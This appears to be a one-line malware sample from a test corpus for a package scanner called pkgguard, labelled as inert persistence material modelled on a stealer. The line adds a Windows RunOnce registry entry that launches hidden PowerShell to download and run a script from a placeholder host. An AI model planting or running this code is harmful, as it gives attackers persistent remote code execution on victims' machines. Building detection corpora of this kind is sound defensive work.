# pkgguard corpus 090 (persistence), modelled on [stealer-profile]; inert, never run.
import os

os.system(r'reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\RunOnce" /v upd /t REG_SZ /d "powershell -w hidden -c iwr https://cdn.example/o.ps1|iex" /f')
